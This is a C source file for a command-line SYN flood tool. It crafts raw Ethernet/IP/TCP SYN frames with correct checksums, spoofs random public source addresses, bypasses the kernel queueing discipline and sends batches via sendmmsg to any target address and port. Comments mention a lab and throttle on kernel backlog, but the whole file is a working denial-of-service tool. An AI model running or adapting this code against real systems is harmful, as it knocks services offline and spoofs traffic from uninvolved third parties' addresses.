/* SPDX-License-Identifier: Apache-2.0 */
/*
 * SYN packets from random sources: syn_flood DEVICE MAC ADDRESS PORT PACKETS
 *
 * To ADDRESS, with checksums that hold; half of them to PORT, the others to any. Sources are random, but never in
 * 10.0.0.0/8, where the lab is. They go as fast as the kernel takes them: where its backlog is full, it would drop packets
 * of others, too. Prints "PACKETS sent in MS ms", and what the device did not take.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define BACKOFF_NS 50000
#define BACKLOG 200 /* packets of a CPU; it drops what is beyond net.core.netdev_max_backlog, 1,000 */
#define BACKLOG_COLUMN 11

struct syn {
    struct ether_header ethernet;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t padding[6]; /* 60 bytes, the least a frame has */
} __attribute__((packed));

struct flood {
    int fd;
    int softnet;      /* /proc/net/softnet_stat */
    uint32_t address; /* network order */
    uint16_t port;    /* network order */
    uint64_t random;
    struct syn packets[BATCH];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH];
};

/* xorshift64*, Vigna 2014. */
static uint64_t flood_random(struct flood *flood)
{
    flood->random ^= flood->random >> 12;
    flood->random ^= flood->random << 25;
    flood->random ^= flood->random >> 27;
    return flood->random * 0x2545f4914f6cdd1dull;
}

static uint32_t sum_words(const void *data, size_t size, uint32_t sum)
{
    uint16_t word;

    for (size_t i = 0; i < size; i += 2) {
        memcpy(&word, (const uint8_t *)data + i, 2);
        sum += word;
    }
    return sum;
}

static uint16_t folded(uint32_t sum)
{
    sum = (sum & 0xffff) + (sum >> 16);
    sum += sum >> 16;
    return (uint16_t)~sum;
}

/* A source that may be somebody: not the lab's, no loopback, no group. */
static uint32_t flood_source(struct flood *flood)
{
    uint32_t source;

    do
        source = (uint32_t)(flood_random(flood) >> 32);
    while (source >> 24 == 0 || source >> 24 == 10 || source >> 24 == 127 || source >> 24 >= 224);
    return htonl(source);
}

static void flood_fill(struct flood *flood, struct syn *packet)
{
    uint64_t random = flood_random(flood);

    packet->ip.saddr = flood_source(flood);
    packet->ip.check = 0;
    packet->ip.check = folded(sum_words(&packet->ip, sizeof(packet->ip), 0));
    packet->tcp.source = (uint16_t)random;
    packet->tcp.dest = random & 1ull << 48 ? flood->port : (uint16_t)(random >> 16);
    packet->tcp.seq = (uint32_t)(random >> 32);
    packet->tcp.check = 0;
    /* Pseudo header: both addresses, protocol, length. */
    packet->tcp.check =
        folded(sum_words(&packet->tcp, sizeof(packet->tcp),
                         sum_words(&packet->ip.saddr, 8, htons(IPPROTO_TCP) + htons(sizeof(packet->tcp)))));
}

static int flood_open(struct flood *flood, const char *device, const uint8_t mac[6])
{
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(device)};
    const struct syn syn = {
        .ethernet = {.ether_shost = {2, 0, 0, 0, 0, 0x66}, .ether_type = htons(ETHERTYPE_IP)},
        .ip = {.version = 4,
               .ihl = 5,
               .tot_len = htons(sizeof(struct iphdr) + sizeof(struct tcphdr)),
               .ttl = 64,
               .protocol = IPPROTO_TCP,
               .daddr = flood->address},
        .tcp = {.doff = 5, .syn = 1, .window = htons(1024)},
    };
    int on = 1;

    flood->softnet = open("/proc/net/softnet_stat", O_RDONLY | O_CLOEXEC);
    if (flood->softnet < 0)
        return -errno;
    /* Protocol 0: nothing is received. */
    flood->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (flood->fd < 0 || !address.sll_ifindex || bind(flood->fd, (struct sockaddr *)&address, sizeof(address)) < 0)
        return -errno;
    if (setsockopt(flood->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) < 0)
        return -errno;
    for (int i = 0; i < BATCH; i++) {
        flood->packets[i] = syn;
        memcpy(flood->packets[i].ethernet.ether_dhost, mac, 6);
        flood->parts[i] = (struct iovec){.iov_base = &flood->packets[i], .iov_len = sizeof(struct syn)};
        flood->messages[i].msg_hdr = (struct msghdr){.msg_iov = &flood->parts[i], .msg_iovlen = 1};
    }
    return 0;
}

/* Packets that wait for a CPU, of the CPU where they are most. */
static unsigned long backlog(const struct flood *flood)
{
    char text[8192], *line = text, *end;
    ssize_t size = pread(flood->softnet, text, sizeof(text) - 1, 0);
    unsigned long most = 0, n = 0;

    text[size > 0 ? size : 0] = '\0';
    for (; (end = strchr(line, '\n')); line = end + 1) {
        for (int column = 0; column <= BACKLOG_COLUMN; column++)
            n = strtoul(line, &line, 16);
        most = n > most ? n : most;
    }
    return most;
}

static int flood_run(struct flood *flood, uint64_t packets, uint64_t *ret_refused)
{
    uint64_t sent = 0, refused = 0;

    while (sent < packets) {
        unsigned int n = packets - sent < BATCH ? (unsigned int)(packets - sent) : BATCH;
        int r;

        for (unsigned int i = 0; i < n; i++)
            flood_fill(flood, &flood->packets[i]);
        while (backlog(flood) > BACKLOG)
            (void)sched_yield();
        r = sendmmsg(flood->fd, flood->messages, n, 0);
        if (r < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
            return -errno;
        if (r >= 0) {
            sent += (unsigned int)r;
            continue;
        }
        refused++;
        /* The device is full: others wait for it, too. */
        (void)nanosleep(&(struct timespec){.tv_nsec = BACKOFF_NS}, NULL);
    }
    *ret_refused = refused;
    return 0;
}

static uint64_t now_ms(void)
{
    struct timespec now;

    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

static bool flood_words(char **argv, struct flood *flood, uint8_t mac[6], uint64_t *ret_packets)
{
    *ret_packets = strtoull(argv[5], NULL, 10);
    flood->port = htons((uint16_t)strtoul(argv[4], NULL, 10));
    return sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) ==
               6 &&
           inet_pton(AF_INET, argv[3], &flood->address) == 1 && flood->port && *ret_packets;
}

int main(int argc, char **argv)
{
    static struct flood flood = {.fd = -1};
    uint64_t packets, started, refused = 0;
    uint8_t mac[6];
    int r;

    if (argc != 6 || !flood_words(argv, &flood, mac, &packets)) {
        (void)fprintf(stderr, "usage: syn_flood DEVICE MAC ADDRESS PORT PACKETS\n");
        return 2;
    }
    flood.random = (uint64_t)getpid() << 32 | 1;
    r = flood_open(&flood, argv[1], mac);
    started = now_ms();
    if (r == 0)
        r = flood_run(&flood, packets, &refused);
    if (r < 0) {
        (void)fprintf(stderr, "syn_flood: %s: %s\n", argv[1], strerror(-r));
        return 1;
    }
    printf("%llu sent in %llu ms, %llu not taken\n", (unsigned long long)packets,
           (unsigned long long)(now_ms() - started), (unsigned long long)refused);
    return 0;
}
